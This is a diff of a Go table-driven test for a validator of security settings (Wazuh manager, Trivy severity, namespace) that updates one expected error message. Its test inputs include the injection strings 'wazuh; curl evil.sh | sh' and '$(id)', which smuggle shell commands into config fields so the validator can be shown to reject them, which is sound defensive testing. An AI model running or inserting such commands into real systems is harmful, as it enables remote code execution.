@@ -135,7 +135,7 @@ func TestValidateScheduleAndManager(t *testing.T) {
 		{"manager with a command", func(a *security.Args) { a.WazuhManager = "wazuh; curl evil.sh | sh" },
 			`bac:security.wazuhManager: "wazuh; curl evil.sh | sh" is not a DNS name`},
 		{"severity with a command", func(a *security.Args) { a.Severity = "HIGH,CRITICAL $(id)" },
-			`bac:security.severity: "HIGH,CRITICAL $(id)" is not a comma-separated list of Trivy severities`},
+			`bac:security.severity: "CRITICAL $(id)" is not a Trivy severity`},
 		{"reserved namespace", func(a *security.Args) { a.Namespace = "kube-public" }, `bac:security.namespace: "kube-public" is reserved for Kubernetes`},
 	}
 	for _, tt := range tests {
